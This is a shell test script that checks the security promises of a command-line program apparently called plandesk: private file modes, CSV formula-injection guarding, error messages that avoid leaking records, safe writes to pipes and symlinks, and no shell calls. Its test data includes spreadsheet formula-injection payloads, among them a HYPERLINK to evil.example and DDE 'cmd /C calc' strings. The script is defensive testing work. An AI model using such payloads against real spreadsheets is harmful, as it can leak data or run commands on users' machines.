#!/bin/sh
# security.sh — what SECURITY.md promises, checked on the real program:
# files private whatever the umask and over files that were not; exports
# that a spreadsheet will not run; error messages that name the bad value,
# never the rest of the record; no shell anywhere in the program.
. "$(dirname "$0")/lib.sh"

db="$T_TMP/s.db"
pd() { "$PLANDESK" --db "$db" "$@"; }

# --- private files, whatever the umask ------------------------------------
umask 000
expect_status 0 "a database made under umask 000" "$PLANDESK" --db "$T_TMP/open/deep/s.db" check
expect_mode "its directory is still 0700" 700 "$T_TMP/open/deep"
expect_mode "its file is still 0600" 600 "$T_TMP/open/deep/s.db"
expect_mode "its lock file is still 0600" 600 "$T_TMP/open/deep/s.db-lock"

cat >"$T_TMP/people.csv" <<'CSV'
name,organisation,role,notes,phone,mobile
"=HYPERLINK(""http://evil.example/?""&A1;""Click"")",Youth Service,,,,
"+cmd|' /C calc'!A0",Youth Service,,,,
@SUM(1+1),Youth Service,,,,
-2+3,Youth Service,,,,
Karen Proctor,Cluster 3 Partnership,=1+1,,,
Phone Test,Youth Service,,,+44 (0)1632 960-200,+1+cmd|' /C calc'!A0
CSV
expect_status 0 "formula-like names import as typed" pd import people "$T_TMP/people.csv"
for f in export.csv minutes.md backup.db; do
	echo "old" >"$T_TMP/$f" && chmod 0644 "$T_TMP/$f"
done
expect_status 0 "export over a 0644 file" pd export people -o "$T_TMP/export.csv"
expect_mode "the export is 0600 after all" 600 "$T_TMP/export.csv"
expect_status 0 "backup over a 0644 file" pd backup "$T_TMP/backup.db"
expect_mode "the backup is 0600 after all" 600 "$T_TMP/backup.db"
umask 077

# --- formula injection -----------------------------------------------------
cp "$T_TMP/export.csv" "$T_TMP/out"
expect_out "= is guarded" "^\"'=HYPERLINK\(\"\"http://evil"
expect_out "+ is guarded" "^'\+cmd\|' /C calc'!A0,"
expect_out "@ is guarded" "^'@SUM\(1\+1\),"
expect_out "- is guarded" "^'-2\+3,"
expect_out "a formula in another column is guarded" "^Karen Proctor,,'=1\+1,"
expect_out "a phone number is not (it cannot call a function); a formula in the mobile is" \
	"^Phone Test,,,Youth Service,\+44 \(0\)1632 960-200,'\+1\+cmd\|' /C calc'!A0,"
if grep -Eq "^(=|\+|@|-)" "$T_TMP/export.csv"; then fail "no line starts a formula"; else ok "no line starts a formula"; fi
expect_status 0 "the guarded export imports back" pd import people "$T_TMP/export.csv"
expect_out "the guard is not stored: nothing changes" ': 0 added, 0 updated, 6 unchanged$'

# --- error messages name the bad value, not the record ---------------------
cat >"$T_TMP/bad.csv" <<'CSV'
name,initials,role,organisation,phone,mobile,email,notes,verified
Amy Child,AC,,,,,,"Disclosed at school: CONFIDENTIAL-DETAIL",31/02/2026
CSV
expect_status 2 "a bad date is an error" pd import people "$T_TMP/bad.csv"
expect_err "it names where and the value" "bad\.csv:2:9: .*31/02/2026"
if grep -q "CONFIDENTIAL-DETAIL\|Amy Child" "$T_TMP/err"; then
	fail "the rest of the record is not in the message"; sed 's/^/#   /' "$T_TMP/err"
else ok "the rest of the record is not in the message"; fi

# --- saving to what is not a plain file -------------------------------------
# An export, a report or a backup renamed over a device node would replace
# it with a file: `export -o /dev/null` as root once replaced /dev/null.
# A named pipe stands in for the devices (the reader is bounded by timeout,
# so a save that never opens the pipe cannot hang the test).
read_pipe() { mkfifo "$1" && { timeout 20 cat "$1" >"$2" & }; }
read_pipe "$T_TMP/export.pipe" "$T_TMP/from-export"
expect_status 0 "export -o a named pipe" pd export people -o "$T_TMP/export.pipe"
wait
if [ -p "$T_TMP/export.pipe" ]; then ok "the pipe is still a pipe"; else fail "the pipe is still a pipe"; fi
if grep -q "^Karen Proctor," "$T_TMP/from-export"; then ok "the rows went down the pipe"
else fail "the rows went down the pipe"; fi
read_pipe "$T_TMP/backup.pipe" "$T_TMP/from-backup.db"
expect_status 0 "backup into a named pipe" pd backup "$T_TMP/backup.pipe"
wait
if [ -p "$T_TMP/backup.pipe" ]; then ok "that pipe is still a pipe"; else fail "that pipe is still a pipe"; fi
expect_status 0 "what came down it is the database" \
	"$PLANDESK" --db "$T_TMP/from-backup.db" lookup karen
expect_out "with its people" "^person	Karen Proctor	"
echo old >"$T_TMP/real.csv" && ln -s real.csv "$T_TMP/link.csv"
expect_status 0 "export -o a symbolic link" pd export people -o "$T_TMP/link.csv"
if [ -L "$T_TMP/link.csv" ]; then ok "the link is still a link"; else fail "the link is still a link"; fi
if grep -q "^Karen Proctor," "$T_TMP/real.csv"; then ok "the file it names has the export"
else fail "the file it names has the export"; fi
expect_mode "and is 0600" 600 "$T_TMP/real.csv"
expect_status 2 "export -o a folder is refused" pd export people -o "$T_TMP"
expect_err "saying so" "it is a folder"

# --- no shell: the program does not link system() or popen() --------------
if command -v nm >/dev/null 2>&1; then
	syms=$(nm -D --undefined-only "$PLANDESK_BIN" 2>/dev/null)
	if printf '%s\n' "$syms" | grep -Eqw 'system|popen|execl|execle|wordexp'; then
		fail "no system(), popen(), execl() or wordexp()"
		printf '%s\n' "$syms" | grep -Ew 'system|popen|execl|execle|wordexp' | sed 's/^/#   /'
	else ok "no system(), popen(), execl() or wordexp()"; fi
	if printf '%s\n' "$syms" | grep -qw execvp; then ok "the editor is started with execvp"
	else fail "the editor is started with execvp"; fi
fi

finish
